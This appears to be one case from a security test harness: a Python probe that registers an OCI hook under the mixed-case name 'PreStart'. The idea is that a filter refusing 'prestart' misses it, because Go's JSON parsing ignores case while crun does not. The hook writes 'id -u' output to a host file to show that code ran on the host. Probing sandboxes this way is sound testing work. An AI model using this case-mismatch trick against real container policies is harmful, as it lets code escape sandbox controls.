"""A stage in other letters, `PreStart`, is one that Go's parser reads as `prestart`."""

import os

from bypass import refused

SOURCE = "idea: Go's encoding/json takes members in any case"
WAY = "create"
STOPPED = refused("config")
BARE = {"crun": "crun reads names exactly"}


def attack(t):
    t.write("/mnt/host/hook", "#!/bin/sh\nread line\nid -u > /mnt/host/written\n", 0o755)
    t.hook("PreStart", "/mnt/host/hook")
    t.run("true")
    return os.path.exists("/mnt/host/written")
